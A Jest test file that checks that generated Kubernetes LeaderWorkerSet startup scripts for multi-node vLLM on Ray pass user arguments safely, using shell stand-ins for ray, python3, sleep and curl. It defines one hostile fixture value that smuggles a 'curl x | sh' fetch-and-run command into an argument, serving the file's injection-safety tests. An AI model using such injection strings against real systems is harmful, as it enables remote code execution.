/**
 * Issue 11 item 5: a replica spanning nodes starts like vLLM's multi-node helper — workers retry
 * joining, the leader waits for the whole Ray cluster before it serves — and no user string
 * ever passes through the shell. The scripts are run here with bash against stand-ins for `ray`,
 * `python3` and `sleep`.
 */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { RAY_GROUP_TIMEOUT_SECONDS, RAY_LEADER_SCRIPT, RAY_WORKER_SCRIPT } from "../../constructs/serving/ray-group-start";
import { loadEnvironment, type KubernetesEnvironment } from "../../core/load-environment";
import { resourcesOfType, synthStack } from "../helpers/synth";

const HOSTILE = "--max-num-seqs=8; curl x | sh #";

interface Container {
  name: string;
  command: string[];
  args?: string[];
  startupProbe?: { periodSeconds: number; failureThreshold: number };
}

interface LeaderWorkerSet {
  spec: {
    leaderWorkerTemplate: {
      size: number;
      leaderTemplate: { spec: { containers: Container[] } };
      workerTemplate: { spec: { containers: Container[] } };
    };
  };
}

/** environments/multinode.yaml with a hostile extraArgs entry, past any input check: the rendering alone must hold. */
function synthesizedGroup(extraArgs: string[]): LeaderWorkerSet {
  const environment = loadEnvironment("multinode") as KubernetesEnvironment;
  const hostile: KubernetesEnvironment = {
    ...environment,
    models: environment.models.map((model) => ({ ...model, config: { ...model.config, extraArgs } })),
  };
  const [manifest] = resourcesOfType(synthStack(hostile).tf, "kubernetes_manifest") as { manifest: LeaderWorkerSet }[];
  return manifest.manifest;
}

const group = synthesizedGroup([HOSTILE]);
const leader = group.spec.leaderWorkerTemplate.leaderTemplate.spec.containers[0];
const worker = group.spec.leaderWorkerTemplate.workerTemplate.spec.containers[0];

describe("the synthesized LeaderWorkerSet", () => {
  it("runs the fixed leader script and hands vLLM's argv over as separate arguments, a hostile one intact", () => {
    expect(leader.command).toEqual(["/bin/bash", "-c", RAY_LEADER_SCRIPT, "aicockpit-ray-leader"]);
    expect(leader.args?.slice(0, 3)).toEqual(["python3", "-m", "vllm.entrypoints.openai.api_server"]);
    expect(leader.args).toContain("--distributed-executor-backend=ray");
    expect(leader.args?.filter((arg) => arg.includes("curl"))).toEqual([HOSTILE]);
  });

  it("runs the fixed worker script with no arguments at all", () => {
    expect(worker.command).toEqual(["/bin/bash", "-c", RAY_WORKER_SCRIPT, "aicockpit-ray-worker"]);
    expect(worker.args).toBeUndefined();
    expect(group.spec.leaderWorkerTemplate.size).toBe(2);
  });

  it("uses no syntax that Kubernetes ($(NAME)) or Terraform (${…}, %{…}) would expand in the scripts", () => {
    for (const script of [RAY_LEADER_SCRIPT, RAY_WORKER_SCRIPT]) {
      expect(script).not.toMatch(/\$\(|\$\{|%\{/);
      expect(bash(["-n", "-c", script]).status).toBe(0);
    }
  });

  it("gives the leader's startup probe the time it may wait for its workers", () => {
    const plain = synthesizedGroup([]).spec.leaderWorkerTemplate.leaderTemplate.spec.containers[0];
    const probe = plain.startupProbe!;
    expect(probe.failureThreshold * probe.periodSeconds).toBeGreaterThanOrEqual(RAY_GROUP_TIMEOUT_SECONDS + 600);
  });
});

describe("the leader", () => {
  it("starts a Ray head, waits until every worker has joined, then execs vLLM with its argv unchanged", () => {
    const run = runScript(leader, { LWS_GROUP_SIZE: "2" }, { aliveAfterChecks: 3 });
    expect(run.status).toBe(0);
    expect(run.calls("ray")).toEqual([["start", "--head", "--port=6379", "--disable-usage-stats"]]);
    expect(run.calls("python3-check")).toHaveLength(3);
    expect(run.calls("vllm")).toEqual([leader.args!.slice(1)]);
    expect(run.calls("curl")).toEqual([]);
  });

  it("exits without starting vLLM when the workers never all join, so LWS recreates the group", () => {
    const run = runScript(leader, { LWS_GROUP_SIZE: "2" }, { aliveAfterChecks: Number.POSITIVE_INFINITY });
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(`did not all join within ${RAY_GROUP_TIMEOUT_SECONDS} s`);
    expect(run.calls("python3-check")).toHaveLength(RAY_GROUP_TIMEOUT_SECONDS / 5);
    expect(run.calls("vllm")).toEqual([]);
  });
});

describe("a worker", () => {
  it("retries joining the leader's Ray head until it answers, then stays in it", () => {
    const run = runScript(worker, { LWS_LEADER_ADDRESS: "10.0.3.7" }, { rayFailures: 4 });
    expect(run.status).toBe(0);
    expect(run.calls("ray")).toEqual(Array(5).fill(["start", "--address=10.0.3.7:6379", "--block"]));
  });

  it("gives up after the group's timeout", () => {
    const run = runScript(worker, { LWS_LEADER_ADDRESS: "10.0.3.7" }, { rayFailures: Number.POSITIVE_INFINITY });
    expect(run.status).toBe(1);
    expect(run.calls("ray")).toHaveLength(RAY_GROUP_TIMEOUT_SECONDS / 5);
    expect(run.stderr).toContain("could not join the Ray head at 10.0.3.7:6379");
  });
});

function bash(args: string[], env: NodeJS.ProcessEnv = process.env) {
  return spawnSync("bash", args, { env, encoding: "utf8", timeout: 30_000 });
}

/**
 * Runs a container's command and args (as the kubelet does: command then args, no shell of
 * its own) in a folder whose `ray`, `python3`, `sleep` and `curl` are shell stand-ins that
 * record their arguments, one call per line, fields separated by the unit separator (0x1F).
 */
function runScript(container: Container, env: Record<string, string>, behaviour: { aliveAfterChecks?: number; rayFailures?: number }) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "aicockpit-ray-"));
  const bin = path.join(dir, "bin");
  fs.mkdirSync(bin);
  const log = path.join(dir, "calls.jsonl");
  const limit = (n: number | undefined) => (n === undefined || !Number.isFinite(n) ? 999999 : n);
  // `record KIND ARG…` appends a line KIND␟ARG␟… (no argument here holds a newline or 0x1F).
  const record = `record() { (IFS=$'\\x1f'; printf '%s\\n' "$*") >> ${JSON.stringify(log)}; }`;
  const count = (kind: string) => `$(grep -c '^${kind}'$'\\x1f''\\|^${kind}$' ${JSON.stringify(log)} 2>/dev/null || true)`;
  const fake = (name: string, body: string) => fs.writeFileSync(path.join(bin, name), `#!/bin/bash\n${record}\n${body}\n`, { mode: 0o755 });
  fake("ray", `record ray "$@"; [ "${count("ray")}" -gt ${limit(behaviour.rayFailures ?? 0)} ]`);
  fake(
    "python3",
    `if [ "$1" = -c ]; then record python3-check; [ "${count("python3-check")}" -ge ${limit(behaviour.aliveAfterChecks)} ]; exit; fi
record vllm "$@"`,
  );
  fake("sleep", "true");
  fake("curl", 'record curl "$@"');
  try {
    const argv = [...container.command.slice(1), ...(container.args ?? [])];
    const result = bash(argv, { PATH: `${bin}:${process.env.PATH ?? ""}`, HOME: dir, ...env });
    const lines = fs.existsSync(log) ? fs.readFileSync(log, "utf8").trim().split("\n").filter(Boolean) : [];
    const calls = lines.map((line) => line.split("\x1f"));
    return {
      status: result.status,
      stderr: result.stderr,
      calls: (kind: string) => calls.filter(([k]) => k === kind).map(([, ...args]) => args),
    };
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}
